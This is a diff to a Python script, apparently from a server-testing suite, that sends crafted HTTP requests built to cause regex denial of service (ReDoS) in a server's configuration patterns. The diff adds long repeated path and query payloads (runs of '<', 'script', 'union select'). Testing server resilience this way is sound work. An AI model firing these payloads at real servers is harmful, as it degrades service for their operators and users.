@@ -4,7 +4,13 @@ of the configuration (ReDoS), in location, map, if and rewrite."""
 from attack import Attack
 
 ATTACK = Attack(configurations=("patterns",))
-PATHS = [b"/nested/" + b"a" * 40 + b"!", b"/map", b"/if", b"/rewrite/" + b"ax" * 500 + b"!"]
+PATHS = [
+    b"/nested/" + b"a" * 40 + b"!", b"/map", b"/if", b"/rewrite/" + b"ax" * 500 + b"!",
+    # Searches that begin at many places, each of which takes many steps.
+    b"/search?" + b"<" * 1200 + b"script" * 50 + b"x" * 5500,
+    b"/search?" + b"union" * 750 + b"select" * 560 + b"fram",
+    b"/" + (b"a/" * 110 + b"%0a") * 24 + b".phq",
+]
 
 
 async def run(target):
@@ -13,7 +19,7 @@ async def run(target):
     async def ask(number):
         reader, writer = await target.tls()
         try:
-            writer.write(b"GET " + PATHS[number % 4] + b" HTTP/1.1\r\nHost: localhost\r\n" + evil + b"\r\n")
+            writer.write(b"GET " + PATHS[number % len(PATHS)] + b" HTTP/1.1\r\nHost: localhost\r\n" + evil + b"\r\n")
             await reader.readuntil(b"\r\n\r\n")
         finally:
             writer.transport.abort()
